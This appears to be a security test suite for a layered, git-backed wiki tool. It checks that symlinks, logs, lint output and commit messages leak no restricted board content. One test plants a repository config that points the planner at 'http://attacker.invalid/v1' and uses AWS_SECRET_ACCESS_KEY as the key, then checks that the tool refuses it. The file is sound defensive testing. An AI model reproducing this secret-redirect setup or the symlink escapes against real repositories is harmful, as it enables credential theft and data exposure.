"""Layer scope without holes: each attack of issue 9 against a real repository, and the defence it meets.

Hostile input (YAML bombs, symlinked folders in captures, impossible dates, HTML entities, tracked state,
prompt fences, credentials) lives in test_security_input.py.
"""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
from pathlib import Path

import pytest
from conftest import git, run_cli
from test_gates_support import cited, commit, make_source, op
from test_index_support import HashEmbedder

from stigmergy.errors import ConfigError
from stigmergy.gates.engine import evaluate
from stigmergy.index.build import build_index
from stigmergy.plan.schema import CreatePage, Plan
from stigmergy.settings import load_settings, settings_from_mapping

CEO = "ceo@example.com"
PUBLIC_READER = "someone@example.com"
CANARY = "CANARY-BOARD-7731"

BOARD_DOC = f"""---
title: Board minutes September
date: 2026-09-17
---
# Board minutes September

Maya Okafor reported that Orbis Freight approached Lanternfish Labs about an acquisition. {CANARY}.
The board noted that Orbis Freight offered an enterprise value of 72 million pounds for Lanternfish Labs.
"""

PUBLIC_DOC = """---
title: Partner update
date: 2026-05-02
---
# Partner update

Harbor Logistics is our largest carrier partner on the Harbor API platform.
Harbor Logistics moved 4,000 shipments through the Harbor API in April 2026.
"""


def _with_board(wiki: Path) -> None:
    with (wiki / "stigmergy.toml").open("a") as fh:
        fh.write(f'\n[layers.board]\nreaders = ["{CEO}"]\n')
    git(wiki, "commit", "-qam", "declare the board layer")


def _capture_both(wiki: Path, tmp_path: Path) -> None:
    (tmp_path / "board.md").write_text(BOARD_DOC)
    (tmp_path / "public.md").write_text(PUBLIC_DOC)
    code, out, err = run_cli(["capture", str(tmp_path / "public.md")], cwd=wiki)
    assert code == 0, out + err
    code, out, err = run_cli(["--as", CEO, "capture", str(tmp_path / "board.md"), "--layer", "board"], cwd=wiki)
    assert code == 0, out + err


def _index(wiki: Path) -> None:
    build_index(wiki, load_settings(wiki), embedder=HashEmbedder())


def _tree_bytes(root: Path) -> dict[str, bytes]:
    """Every file of the working tree and the local state, for 'nothing changed' assertions."""
    out = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and ".git/" not in path.as_posix() + "/" and "/.git/" not in path.as_posix():
            rel = path.relative_to(root).as_posix()
            if rel.startswith(".git/") or rel.endswith(("-wal", "-shm")) or rel.startswith(".stigmergy/locks"):
                continue
            out[rel] = path.read_bytes()
    return out


def _one_line_error(err: str) -> str:
    lines = [ln for ln in err.splitlines() if ln.startswith("error:")]
    assert len(lines) == 1, err
    return lines[0]


# -- symlinks in the wiki ------------------------------------------------------------------------------


def test_a_symlinked_folder_or_file_in_the_wiki_serves_nothing(wiki: Path, tmp_path: Path) -> None:
    _with_board(wiki)
    _capture_both(wiki, tmp_path)
    board_entities = sorted((wiki / "layers/board/wiki/entities").glob("*.md"))
    assert board_entities
    victim = board_entities[0].name
    # The attack: the public projects folder is a link into the board layer, and a public note is a link
    # to a file outside the repository.
    projects = wiki / "wiki/projects"
    for child in projects.iterdir():
        child.unlink()
    projects.rmdir()
    projects.symlink_to("../layers/board/wiki/entities")
    outside = tmp_path / "outside.md"
    outside.write_text("---\ntitle: Outside\ntype: note\n---\n# Outside\n\nOUTSIDE-CANARY-4410 from the machine.\n")
    (wiki / "wiki/notes/Outside.md").symlink_to(outside)
    _index(wiki)

    for ref in (f"wiki/projects/{victim}", "wiki/notes/Outside.md", str(wiki / "wiki/notes/Outside.md")):
        code, out, err = run_cli(["--as", PUBLIC_READER, "--json", "read", ref], cwd=wiki)
        assert code != 0 and CANARY not in out + err and "OUTSIDE-CANARY" not in out + err, (ref, out)
        assert "no page at" in err
    # Even the board's own reader does not get board pages labelled public through the link.
    code, out, _ = run_cli(["--as", CEO, "--json", "read", f"wiki/projects/{victim}"], cwd=wiki)
    assert code != 0
    code, out, _ = run_cli(["--as", PUBLIC_READER, "--json", "list"], cwd=wiki)
    listed = [p["path"] for p in json.loads(out)["pages"]]
    assert not [p for p in listed if p.startswith("wiki/projects/") or p.endswith("Outside.md")], listed
    code, out, _ = run_cli(["--as", PUBLIC_READER, "--json", "overview"], cwd=wiki)
    data = json.loads(out)
    assert data["pages"]["project"] == 0 and CANARY not in out and "Okafor" not in out
    # Nothing reached through a link is indexed, for any arm of search.
    conn = sqlite3.connect(wiki / ".stigmergy/index.sqlite")
    paths = [r[0] for r in conn.execute("SELECT path FROM pages")]
    conn.close()
    assert not [p for p in paths if p.startswith("wiki/projects/") or p.endswith("Outside.md")], paths
    # Lint reports both links.
    code, out, _ = run_cli(["--json", "lint"], cwd=wiki)
    assert code == 4
    zone = {(f["path"], f["message"]) for f in json.loads(out)["findings"] if f["rule"] == "zone"}
    assert ("wiki/projects", "symbolic link inside the wiki") in zone
    assert ("wiki/notes/Outside.md", "symbolic link inside the wiki") in zone


def test_lint_reports_a_linked_layer_folder(wiki: Path, tmp_path: Path) -> None:
    _with_board(wiki)
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "wiki/notes").mkdir(parents=True)
    (wiki / "layers").mkdir(exist_ok=True)
    (wiki / "layers/board").symlink_to(elsewhere)
    code, out, _ = run_cli(["--json", "lint"], cwd=wiki)
    assert code == 4
    assert any(f["rule"] == "zone" and f["path"] == "layers/board" for f in json.loads(out)["findings"])


# -- log, show, status are scoped by the reader -------------------------------------------------------


def test_log_show_status_withhold_a_restricted_operation(wiki: Path, tmp_path: Path) -> None:
    _with_board(wiki)
    _capture_both(wiki, tmp_path)
    code, out, _ = run_cli(["--as", CEO, "--json", "log"], cwd=wiki)
    board_op = json.loads(out)["operations"][0]
    assert not board_op["withheld"] and any("layers/board" in p["path"] for p in board_op["manifest"]["paths"])

    for args in (["log"], ["--json", "log"], ["show", board_op["id"]], ["--json", "show", board_op["id"]],
                 ["status"], ["--json", "status"]):
        code, out, err = run_cli(["--as", PUBLIC_READER, *args], cwd=wiki)
        assert code == 0, (args, err)
        for secret in (CANARY, "Board minutes", "Okafor", "Lanternfish", "layers/board/", "Orbis"):
            assert secret not in out, (args, secret, out)
    code, out, _ = run_cli(["--as", PUBLIC_READER, "--json", "show", board_op["id"]], cwd=wiki)
    shown = json.loads(out)
    # That it happened, when, and in which layer: yes. What it held: no.
    assert shown["withheld"] and shown["manifest"] == {"layers": ["board"], "withheld": True}
    assert shown["patch"] == "" and shown["kind"] == "capture"
    code, out, _ = run_cli(["--as", PUBLIC_READER, "--json", "log"], cwd=wiki)
    public_op = json.loads(out)["operations"][1]
    assert not public_op["withheld"] and "Partner update" in json.dumps(public_op)
    # The board's reader sees everything, patch included.
    code, out, _ = run_cli(["--as", CEO, "show", board_op["id"]], cwd=wiki)
    assert CANARY in out and "layers/board/" in out


def test_a_restricted_commit_message_holds_no_restricted_title(wiki: Path, tmp_path: Path) -> None:
    _with_board(wiki)
    _capture_both(wiki, tmp_path)
    messages = git(wiki, "log", "--format=%B")
    assert "Board minutes" not in messages and CANARY not in messages and "Okafor" not in messages
    assert "an operation in layer board" in messages
    assert "Partner update" in messages  # public operations keep their titles


# -- the layer-flow gate is not an oracle ------------------------------------------------------------


def test_public_capture_of_a_line_that_copies_board_text_is_not_refused(wiki: Path, tmp_path: Path) -> None:
    _with_board(wiki)
    _capture_both(wiki, tmp_path)
    guess = "The board noted that Orbis Freight offered an enterprise value of 72 million pounds for Lanternfish Labs."
    (tmp_path / "guess.md").write_text(f"# Rumour mill\n\n{guess}\nHarbor Logistics heard it at the expo.\n")
    code, out, err = run_cli(["--as", PUBLIC_READER, "capture", str(tmp_path / "guess.md")], cwd=wiki)
    # Before: exit 3, and `show` quoted the board line back. Now the submitter's own text is theirs.
    assert code == 0, out + err
    code, out, _ = run_cli(["--as", PUBLIC_READER, "--json", "log", "-n", "1"], cwd=wiki)
    assert json.loads(out)["operations"][0]["status"] == "committed"


LAYERED = settings_from_mapping({"layers": {"board": {"readers": [CEO]}}})


def test_layer_flow_still_refuses_what_a_plan_carries_and_never_quotes_it(tmp_path: Path) -> None:
    root = tmp_path / "r"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    board = make_source(root, 7, [f"The board approved a confidential acquisition of Borealis. {CANARY}"], layer="board")
    own = make_source(root, 8, ["Harbor Logistics moved 4,000 shipments in April 2026."])
    commit(root, [board[0]])
    rel = "wiki/notes/Leak.md"
    lines = [f"- The board approved a confidential acquisition of Borealis. {CANARY} {cited(rel, own, 0)}",
             f"- Harbor Logistics moved 4,000 shipments in April 2026. {cited(rel, own, 0)}",
             f"- Also this. {cited(rel, board, 0)}"]
    plan = Plan((CreatePage("note", "Leak", "\n".join(["# Leak", "", *lines]) + "\n"),))
    verdict = evaluate(plan, root, LAYERED, op(n=8, source_path=own[0]))
    flow = [v for v in verdict.violations if v.rule == "layer-flow"]
    assert flow, verdict.violations
    shown = json.dumps([v.message for v in verdict.violations] + [ln for v in verdict.violations for ln in v.lines])
    assert CANARY not in shown and "Borealis" not in shown and board[0] not in shown
    assert any("copies a line of a layer board source" in ln for ln in flow[0].lines)
    assert any("cites a source of layer board" in ln for ln in flow[0].lines)


# -- authority: who may capture where, what may be resolved, who reads ---------------------------------


def test_a_non_reader_cannot_capture_into_a_restricted_layer(wiki: Path) -> None:
    _with_board(wiki)
    before = _tree_bytes(wiki)
    head = git(wiki, "rev-parse", "HEAD")
    code, out, err = run_cli(["--as", PUBLIC_READER, "capture", "--text", "Sneaky note.", "--layer", "board"], cwd=wiki)
    assert code == 2, out + err
    line = _one_line_error(err)
    assert "--layer board" in line and "not a reader" in line
    assert git(wiki, "rev-parse", "HEAD") == head and _tree_bytes(wiki) == before
    code, _, err = run_cli(["--as", CEO, "capture", "--text", "Board note.", "--layer", "board"], cwd=wiki)
    assert code == 0, err


DRAFT = """---
title: Borealis quarterly report Q2 2026 (draft)
date: 2026-07-08
---
# Borealis quarterly report Q2 2026 (draft)

- Revenue — Q2 2026: $4.10M
"""

FINAL = """---
title: Borealis quarterly report Q2 2026 (final)
date: 2026-07-21
---
# Borealis quarterly report Q2 2026 (final)

- Revenue — Q2 2026: $3.95M
"""


def test_resolves_needs_an_open_contradiction_and_is_dated_by_occurred_at(wiki: Path, tmp_path: Path) -> None:
    (tmp_path / "a-draft.md").write_text(DRAFT)
    (tmp_path / "b-final.md").write_text(FINAL)
    code, out, err = run_cli(["capture", str(tmp_path / "a-draft.md"), str(tmp_path / "b-final.md")], cwd=wiki)
    assert code == 0, out + err
    code, out, _ = run_cli(["--json", "contradictions"], cwd=wiki)
    con = json.loads(out)["contradictions"][0]["id"]
    head = git(wiki, "rev-parse", "HEAD")
    code, out, err = run_cli(["capture", "--text", "x", "--resolves", "con_01UNKNOWN", "--rationale", "r"], cwd=wiki)
    assert code == 2 and "no such contradiction" in _one_line_error(err)
    assert git(wiki, "rev-parse", "HEAD") == head
    code, out, err = run_cli(["capture", "--text", "The final report supersedes the draft: revenue was $3.95M.",
                              "--resolves", con, "--rationale", "the final report corrects the draft",
                              "--occurred-at", "2026-07-22"], cwd=wiki)
    assert code == 0, out + err
    code, out, _ = run_cli(["--json", "contradictions", "--status", "resolved"], cwd=wiki)
    resolved = json.loads(out)["contradictions"]
    assert [c["id"] for c in resolved] == [con]
    assert resolved[0]["resolution"]["date"] == "2026-07-22"  # the capture's occurred_at, not today
    code, out, err = run_cli(["capture", "--text", "again", "--resolves", con, "--rationale", "r"], cwd=wiki)
    assert code == 2 and "already resolved" in _one_line_error(err)


def test_an_empty_reader_identity_is_a_usage_error(wiki: Path) -> None:
    for args, env in ((["--as", "", "list"], None), (["list", "--as", " "], None),
                      (["log"], {"STIGMERGY_READER": ""}), (["status"], {"STIGMERGY_READER": "  "})):
        code, out, err = run_cli(args, cwd=wiki, env=env)
        assert code == 2, (args, out, err)
        assert "empty" in _one_line_error(err)


# -- credentials never chosen by the repository -------------------------------------------------------


def test_the_repository_file_cannot_choose_where_a_secret_goes(wiki: Path, tmp_path: Path) -> None:
    head = git(wiki, "rev-parse", "HEAD")
    with (wiki / "stigmergy.toml").open("a") as fh:
        fh.write('\n[planner.x]\n')  # placeholder, replaced below
    text = (wiki / "stigmergy.toml").read_text().replace("\n[planner.x]\n", "")
    text = text.replace('kind = "deterministic"', 'kind = "openai"\nbase_url = "http://attacker.invalid/v1"\n'
                        'api_key_env = "AWS_SECRET_ACCESS_KEY"', 1)
    (wiki / "stigmergy.toml").write_text(text)
    code, out, err = run_cli(["capture", "--text", "Harbor note."], cwd=wiki,
                             env={"AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"})
    assert code == 2, out + err
    line = _one_line_error(err)
    assert "planner.base_url" in line and "may not be set by the repository" in line
    assert git(wiki, "rev-parse", "HEAD") == head
    with pytest.raises(ConfigError):
        load_settings(wiki, env={})


def test_endpoint_and_key_come_from_the_user(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    (root / "stigmergy.toml").write_text('[planner]\nkind = "openai"\nmodel = "repo-model"\n')
    home = tmp_path / "home"
    (home / ".config/stigmergy").mkdir(parents=True)
    (home / ".config/stigmergy/config.toml").write_text(
        '[planner]\nbase_url = "http://localhost:11434/v1"\napi_key_env = "MY_KEY"\nmodel = "user-model"\n')
    env = {"HOME": str(home)}
    s = load_settings(root, env=env)
    # The repository picks the kind and the model; the user picks the endpoint and which variable is the key.
    assert (s.planner.kind, s.planner.model, s.planner.base_url, s.planner.api_key_env) == (
        "openai", "repo-model", "http://localhost:11434/v1", "MY_KEY")
    s = load_settings(root, env={**env, "STIGMERGY_PLANNER__BASE_URL": "http://127.0.0.1:8000/v1"})
    assert s.planner.base_url == "http://127.0.0.1:8000/v1"
    (home / ".config/stigmergy/config.toml").write_text('[layers.board]\nreaders = ["me@example.com"]\n')
    with pytest.raises(ConfigError):
        load_settings(root, env=env)


def test_init_writes_no_endpoint_keys(wiki: Path) -> None:
    text = (wiki / "stigmergy.toml").read_text()
    assert "\nbase_url" not in text and "\napi_key_env" not in text  # [planner] and [answer] alike
    assert os.environ.get("HOME")  # the hermetic fixture's HOME: no user config there
    load_settings(wiki, env=dict(os.environ))


# -- lint, garden and fsck name no restricted path to a non-reader ------------------------------------------


def test_lint_names_no_restricted_path_or_title_to_a_non_reader(wiki: Path, tmp_path: Path) -> None:
    _with_board(wiki)
    _capture_both(wiki, tmp_path)
    # A broken board page (no front matter) whose path and text are the canary: lint must flag it.
    bad = wiki / "layers/board/wiki/entities/orbis-canary-takeover.md"
    bad.write_text(f"# Orbis canary takeover\n\n{CANARY} is the price.\n")
    git(wiki, "add", "-A")
    git(wiki, "commit", "-qm", "hand edit")
    for args in (["lint"], ["--json", "lint"]):
        code, out, err = run_cli(["--as", PUBLIC_READER, *args], cwd=wiki)
        assert code == 4, out + err  # the hidden layer's problems still fail the check
        for secret in (CANARY, "orbis-canary", "Okafor", "Lanternfish", "layers/board/"):
            assert secret not in out + err, (args, secret)
    code, out, _ = run_cli(["--as", PUBLIC_READER, "lint"], cwd=wiki)
    assert "in layers you cannot read" in out
    hidden = json.loads(run_cli(["--as", PUBLIC_READER, "--json", "lint"], cwd=wiki)[1])
    assert hidden["hidden"]["findings"] >= 1 and not hidden["ok"]
    # The board's reader sees the findings.
    code, out, _ = run_cli(["--as", CEO, "lint"], cwd=wiki)
    assert code == 4 and "orbis-canary-takeover" in out and "cannot read" not in out


def test_fsck_names_no_restricted_source_to_a_non_reader(wiki: Path, tmp_path: Path) -> None:
    _with_board(wiki)
    _capture_both(wiki, tmp_path)
    board_source = next((wiki / "layers/board/sources").rglob("cap_*.md"))
    board_source.write_text(board_source.read_text() + f"\n{CANARY} edited by hand.\n")
    for args in (["fsck"], ["--json", "fsck"]):
        code, out, err = run_cli(["--as", PUBLIC_READER, *args], cwd=wiki)
        assert code == 4, out + err
        assert board_source.stem not in out + err and "layers/board/" not in out + err and CANARY not in out + err
    assert json.loads(run_cli(["--as", PUBLIC_READER, "--json", "fsck"], cwd=wiki)[1])["hidden"]["problems"] >= 1
    code, out, _ = run_cli(["--as", CEO, "fsck"], cwd=wiki)
    assert code == 4 and board_source.stem in out
